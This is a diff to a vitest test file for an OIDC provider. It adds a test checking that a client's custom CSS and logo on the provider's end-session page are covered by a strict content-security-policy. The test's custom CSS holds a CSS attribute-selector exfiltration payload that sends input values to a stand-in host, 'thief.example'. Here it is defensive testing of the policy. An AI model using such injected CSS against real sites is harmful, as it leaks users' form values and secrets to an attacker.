@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { authorize } from '../support/flow';
 import { createApplication, management } from '../support/management';
@@ -49,6 +50,24 @@ describe('the look of an application', () => {
       expect.stringMatching(/^ script-src 'nonce-\w+' 'strict-dynamic'$/),
     ]);
     expect(policy.length).toBeLessThan(4_000);
+  });
+
+  it('is on the provider’s own pages too, and takes nothing from them', async () => {
+    const logoUrl = 'http://cdn.example.com/logo.svg';
+    const { client } = await signInPage({
+      branding: { logoUrl },
+      customCss: 'a{}\r\n[value^=a]{background:url(https://thief.example/a)}',
+    });
+    const query = new URLSearchParams({ client_id: client.id });
+    const response = await fetch(`${server.baseUrl}/oidc/session/end?${query}`, {
+      headers: { accept: 'text/html' },
+    });
+    const policy = response.headers.get('content-security-policy') ?? '';
+    const [, css = ''] = /<style>(.*?)<\/style>/s.exec(await response.text()) ?? [];
+    expect(css).toContain('thief.example');
+    expect(policy).toContain(`'sha256-${createHash('sha256').update(css).digest('base64')}'`);
+    expect(css).not.toContain('\r');
+    expect(policy).toMatch(`img-src 'self' data: ${logoUrl};`);
   });
 
   it('is for its own sign-ins, and goes with it', async () => {
